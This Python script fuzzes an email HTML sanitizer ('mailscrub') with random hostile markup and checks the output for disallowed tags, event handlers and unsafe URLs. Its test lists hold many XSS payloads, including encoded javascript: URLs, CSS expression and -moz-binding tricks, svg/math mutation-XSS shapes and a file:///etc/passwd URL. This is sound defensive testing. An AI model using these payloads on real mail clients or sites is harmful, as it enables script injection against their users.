#!/usr/bin/env python3
"""
Random fuzzer for the email sanitizer.
Generates hostile/malformed email HTML and checks that sanitized output is safe.

Every generated input must:
  - sanitize without raising and in well under HANG_SECONDS
  - produce output that sanitizes to itself (fixed point)
  - re-parse into a tree with only allowed tags, no handlers and no unsafe URLs
"""

import argparse
import random
import string
import sys
import time
import traceback

from mailscrub import DEFAULT_POLICY, sanitize
from mailscrub.darkmode import DARK_MODE_MARKER
from mailscrub.parser import parse_html
from mailscrub.policy import URL_ATTRIBUTES

HANG_SECONDS = 5.0

TAGS = [
    "div", "span", "p", "a", "img", "table", "tbody", "tr", "td", "th", "ul", "ol", "li",
    "center", "font", "b", "i", "u", "em", "strong", "br", "hr", "h1", "h2", "h3",
    "blockquote", "pre", "code", "style", "link", "meta", "title", "head", "body", "html",
    "map", "area", "video", "audio", "source", "picture", "marquee", "details", "summary",
    # Dropped or unwrapped
    "script", "iframe", "object", "embed", "form", "input", "button", "select", "option",
    "textarea", "template", "noscript", "xmp", "plaintext", "base", "frameset", "frame",
    "svg", "math", "mglyph", "mtext", "foreignObject", "custom-tag", "o:p", "v:shape",
]

RAW_TEXT_TAGS = ["script", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title"]

ATTRIBUTES = [
    "id", "class", "style", "href", "src", "srcset", "background", "poster", "cite", "usemap",
    "alt", "title", "width", "height", "bgcolor", "align", "target", "rel", "name", "content",
    "http-equiv", "charset", "onclick", "onload", "onerror", "onmouseover", "formaction",
    "xlink:href", "data-x", "aria-label", "data-mailscrub-dark-mode", "srcdoc",
]

URLS = [
    "https://example.com/",
    "http://example.com/a.png",
    "/relative/path",
    "#fragment",
    "//cdn.example.com/x",
    "mailto:a@example.com",
    "cid:part1@example.com",
    "data:image/png;base64,iVBORw0KGgo=",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "java&#0;script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
]

CSS_SNIPPETS = [
    "color:red",
    "background:url({url})",
    "background-image:url('{url}')",
    "width:expression(alert(1))",
    "width:expression (alert(1))",
    "width:expression/**/(alert(1))",
    "width:\\65xpression(alert(1))",
    "-moz-binding:url(http://evil/x.xml#y)",
    "behavior:url(x.htc)",
    "@import url({url});",
    "@\\69mport '{url}';",
    "a{{color:red}}",
    "</style><script>alert(1)</script>",
    "content:\"</style>\"",
    "font-family:'unterminated",
    "background:url(unterminated",
    "@media (max-width:600px){{td{{display:block}}}}",
    "src: src(\"{url}\")",
    "<!--",
]

SPECIAL_CHARS = ["\x00", "\x0b", "\x0c", "\x7f", "\ufffd", "\u00a0", "\u200b", "\ufeff", "\u2028"]

ENTITIES = ["&amp;", "&lt;", "&gt;", "&quot;", "&nbsp;", "&", "&#0;", "&#x3c;", "&lt;script&gt;", "&unknown;"]


def random_string(min_len=0, max_len=20):
    """Generate random ASCII string."""
    length = random.randint(min_len, max_len)
    return "".join(random.choices(string.ascii_letters + string.digits, k=length))


def fuzz_url():
    return random.choice(URLS)


def fuzz_css():
    snippets = random.choices(CSS_SNIPPETS, k=random.randint(1, 4))
    return ";".join(snippet.format(url=fuzz_url()) for snippet in snippets)


def fuzz_attribute():
    """Generate an attribute, often with a hostile value."""
    name = random.choice(ATTRIBUTES)
    if name in URL_ATTRIBUTES:
        value = fuzz_url()
    elif name == "style":
        value = fuzz_css()
    elif random.random() < 0.2:
        value = random.choice(["<html>", "</style>", '"><script>alert(1)</script>', "<body onload=x>"])
    else:
        value = random_string(0, 20)

    quote = random.choice(['"', "'", ""])
    if not quote and any(ch in value for ch in " \t\n>"):
        quote = '"'
    return f"{name}={quote}{value}{quote}"


def fuzz_open_tag(tag=None):
    tag = tag or random.choice(TAGS)
    attrs = " ".join(fuzz_attribute() for _ in range(random.randint(0, 4)))
    closing = random.choice([">", "/>", " >"])
    return f"<{tag} {attrs}{closing}" if attrs else f"<{tag}{closing}"


def fuzz_close_tag():
    tag = random.choice(TAGS)
    return random.choice([f"</{tag}>", f"</{tag} >", f"</{tag}", f"</ {tag}>"])


def fuzz_text():
    strategies = [
        lambda: random_string(1, 30),
        lambda: random.choice(ENTITIES),
        lambda: "".join(random.choices(SPECIAL_CHARS, k=random.randint(1, 5))),
        lambda: "<" + random_string(1, 5),
        lambda: random_string() + ">" + random_string(),
        lambda: "\r\n" * random.randint(1, 3),
    ]
    return random.choice(strategies)()


def fuzz_comment():
    content = random.choice([random_string(0, 20), "<script>alert(1)</script>", "[if mso]><xml></xml><![endif]"])
    return random.choice([f"<!--{content}-->", f"<!--{content}", f"<!{content}>", "<!-->", f"<!--{content}--!>"])


def fuzz_doctype():
    return random.choice([
        "<!DOCTYPE html>",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">',
        "<!doctype html>",
        "<!DOCTYPE>",
    ])


def fuzz_style_element():
    return f"<style{random.choice(['', ' type=text/css', ' media=screen'])}>{fuzz_css()}</style>"


def fuzz_raw_text():
    tag = random.choice(RAW_TEXT_TAGS)
    content = random.choice([
        "<script>alert(1)</script>",
        f"</{tag}><img src=x onerror=alert(1)>",
        random_string(0, 20),
        f"<!--</{tag}>-->",
    ])
    closing = random.choice([f"</{tag}>", "", f"</{tag.upper()}>"])
    return f"<{tag}>{content}{closing}"


def fuzz_link():
    return random.choice([
        f'<a href="{fuzz_url()}">{random_string(1, 10)}</a>',
        f'<a href="{fuzz_url()}" target="_self" rel="opener">x</a>',
        f'<img src="{fuzz_url()}" onerror="alert(1)">',
        f'<img srcset="{fuzz_url()} 1x, {fuzz_url()} 2x">',
        f'<link rel="{random.choice(["stylesheet", "prefetch", "import", "icon"])}" href="{fuzz_url()}">',
        f'<meta http-equiv="{random.choice(["refresh", "content-type", "set-cookie"])}" content="0;url={fuzz_url()}">',
        f'<table background="{fuzz_url()}"><tr><td background="{fuzz_url()}">x</td></tr></table>',
    ])


def fuzz_foreign():
    """Namespace confusion and known mutation-XSS shapes."""
    return random.choice([
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><foreignObject><p>x</p></foreignObject></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<math><mi><svg><desc><img src=x onerror=alert(1)></desc></svg></mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ])


def fuzz_nested_structure(depth=0, max_depth=8):
    """Generate nested (possibly misnested) structure."""
    if depth >= max_depth or random.random() < 0.3:
        return fuzz_text()

    tag = random.choice(TAGS)
    children = "".join(fuzz_nested_structure(depth + 1, max_depth) for _ in range(random.randint(0, 3)))
    roll = random.random()
    if roll < 0.2:
        return f"{fuzz_open_tag(tag)}{children}"
    if roll < 0.3:
        return f"{fuzz_open_tag(tag)}{children}</{random.choice(TAGS)}>"
    return f"{fuzz_open_tag(tag)}{children}</{tag}>"


def fuzz_email_document():
    """A whole email shell: head with styles/meta, body with layout tables."""
    head = "".join(random.choice([fuzz_style_element, fuzz_link, fuzz_comment])() for _ in range(random.randint(0, 3)))
    body = "".join(fuzz_nested_structure() for _ in range(random.randint(1, 4)))
    return f"{fuzz_doctype()}<html><head><title>{random_string()}</title>{head}</head><body>{body}</body></html>"


def generate_fuzzed_html():
    """Generate one fuzzed email body (fragment or document)."""
    if random.random() < 0.2:
        return fuzz_email_document()

    parts = []
    for _ in range(random.randint(1, 15)):
        element_type = random.choices(
            [
                fuzz_open_tag,
                fuzz_close_tag,
                fuzz_text,
                fuzz_comment,
                fuzz_style_element,
                fuzz_raw_text,
                fuzz_link,
                fuzz_foreign,
                fuzz_nested_structure,
            ],
            weights=[15, 8, 15, 4, 6, 5, 10, 4, 10],
        )[0]
        parts.append(element_type())
    return "".join(parts)


def find_violations(output, policy=DEFAULT_POLICY):
    """Re-parse sanitized output and list anything the policy should have removed."""
    violations = []
    root = parse_html(output)
    for node in root.iter_descendants():
        if not node.is_element:
            continue
        if node.namespace is not None:
            violations.append(f"foreign element <{node.name}>")
        elif node.name not in policy.allowed_tags:
            violations.append(f"disallowed element <{node.name}>")
        if node.name == "style" and "<" in node.to_text():
            violations.append("'<' inside <style>")
        for key, value in node.attrs.items():
            if key == DARK_MODE_MARKER and node.name == "style":
                continue  # injected by wrap_for_dark_mode
            if key.startswith("on"):
                violations.append(f"event handler {key} on <{node.name}>")
            elif not policy.is_attribute_allowed(node.name, key):
                violations.append(f"disallowed attribute {key} on <{node.name}>")
            elif key in URL_ATTRIBUTES:
                rule = policy.url_rule_for(node.name, key)
                if key == "srcset":
                    urls = [c.split()[0] for c in (value or "").split(",") if c.strip()]
                else:
                    urls = [value or ""]
                if rule is None or not all(rule.permits(url) for url in urls):
                    violations.append(f"unsafe URL {value!r} in {key} on <{node.name}>")
    return violations


def check_one(html, dark_mode=False):
    """Sanitize one input; return (elapsed, problems)."""
    start = time.perf_counter()
    output = sanitize(html, wrap_for_dark_mode=dark_mode)
    elapsed = time.perf_counter() - start

    problems = []
    if not dark_mode:
        again = sanitize(output)
        if again != output:
            problems.append(f"not a fixed point: {output[:120]!r} -> {again[:120]!r}")
    problems.extend(find_violations(output))
    return elapsed, problems


def run_fuzzer(num_tests, seed=None, verbose=False, save_failures=False, dark_mode=False):
    """Run the fuzzer against mailscrub.sanitize."""
    if seed is not None:
        random.seed(seed)

    crashes = []
    hangs = []
    violations = []
    successes = 0

    print(f"Fuzzing mailscrub with {num_tests} test cases...")
    start_time = time.time()

    for i in range(num_tests):
        html = generate_fuzzed_html()

        if verbose and i % 100 == 0:
            print(f"  Test {i}/{num_tests}...")

        try:
            elapsed, problems = check_one(html, dark_mode=dark_mode)
        except Exception as e:
            crashes.append({
                "test_num": i,
                "html": html,
                "error": str(e),
                "traceback": traceback.format_exc(),
            })
            if verbose:
                print(f"  CRASH: Test {i}: {e}")
            continue

        if elapsed > HANG_SECONDS:
            hangs.append({"test_num": i, "html": html, "time": elapsed})
            if verbose:
                print(f"  HANG: Test {i} took {elapsed:.2f}s")
        if problems:
            violations.append({"test_num": i, "html": html, "problems": problems})
            if verbose:
                print(f"  VIOLATION: Test {i}: {problems[0]}")
        if elapsed <= HANG_SECONDS and not problems:
            successes += 1

    elapsed_total = time.time() - start_time

    print(f"\n{'='*60}")
    print("FUZZING RESULTS: mailscrub")
    print(f"{'='*60}")
    print(f"Total tests:    {num_tests}")
    print(f"Successes:      {successes}")
    print(f"Crashes:        {len(crashes)}")
    print(f"Hangs (>{HANG_SECONDS:.0f}s):    {len(hangs)}")
    print(f"Violations:     {len(violations)}")
    print(f"Total time:     {elapsed_total:.2f}s")
    print(f"Tests/second:   {num_tests/elapsed_total:.1f}")

    if crashes:
        print(f"\n{'='*60}")
        print("CRASH DETAILS:")
        print(f"{'='*60}")
        for crash in crashes[:10]:
            print(f"\nTest #{crash['test_num']}:")
            print(f"  HTML: {crash['html'][:200]!r}...")
            print(f"  Error: {crash['error']}")

    if violations:
        print(f"\n{'='*60}")
        print("VIOLATION DETAILS:")
        print(f"{'='*60}")
        for violation in violations[:10]:
            print(f"\nTest #{violation['test_num']}:")
            print(f"  HTML: {violation['html'][:200]!r}...")
            for problem in violation["problems"][:3]:
                print(f"  - {problem}")

    if hangs:
        print(f"\n{'='*60}")
        print("HANG DETAILS:")
        print(f"{'='*60}")
        for hang in hangs[:5]:
            print(f"\nTest #{hang['test_num']} ({hang['time']:.2f}s):")
            print(f"  HTML: {hang['html'][:200]!r}...")

    if save_failures and (crashes or hangs or violations):
        filename = f"fuzz_failures_mailscrub_{int(time.time())}.txt"
        with open(filename, "w", encoding="utf-8") as f:
            f.write(f"Seed: {seed}\n\n")
            for crash in crashes:
                f.write(f"=== CRASH #{crash['test_num']} ===\n")
                f.write(f"HTML:\n{crash['html']}\n")
                f.write(f"Traceback:\n{crash['traceback']}\n\n")
            for violation in violations:
                f.write(f"=== VIOLATION #{violation['test_num']} ===\n")
                f.write(f"HTML:\n{violation['html']}\n")
                f.write("\n".join(violation["problems"]) + "\n\n")
            for hang in hangs:
                f.write(f"=== HANG #{hang['test_num']} ({hang['time']:.2f}s) ===\n")
                f.write(f"HTML:\n{hang['html']}\n\n")
        print(f"\nFailures saved to {filename}")

    return not (crashes or hangs or violations)


def main():
    parser = argparse.ArgumentParser(description="Fuzz the email sanitizer with hostile input")
    parser.add_argument(
        "--num-tests", "-n",
        type=int,
        default=1000,
        help="Number of test cases to generate (default: 1000)",
    )
    parser.add_argument(
        "--seed", "-s",
        type=int,
        default=None,
        help="Random seed for reproducibility",
    )
    parser.add_argument(
        "--dark-mode",
        action="store_true",
        help="Sanitize with wrap_for_dark_mode=True",
    )
    parser.add_argument(
        "--verbose", "-v",
        action="store_true",
        help="Verbose output",
    )
    parser.add_argument(
        "--save-failures",
        action="store_true",
        help="Save failures to a file",
    )
    parser.add_argument(
        "--sample",
        type=int,
        metavar="N",
        help="Just print N sample fuzzed inputs (no sanitizing)",
    )

    args = parser.parse_args()

    if args.sample:
        if args.seed is not None:
            random.seed(args.seed)
        for i in range(args.sample):
            print(f"=== Sample {i+1} ===")
            print(generate_fuzzed_html())
            print()
        return

    success = run_fuzzer(
        args.num_tests,
        seed=args.seed,
        verbose=args.verbose,
        save_failures=args.save_failures,
        dark_mode=args.dark_mode,
    )

    sys.exit(0 if success else 1)


if __name__ == "__main__":
    main()
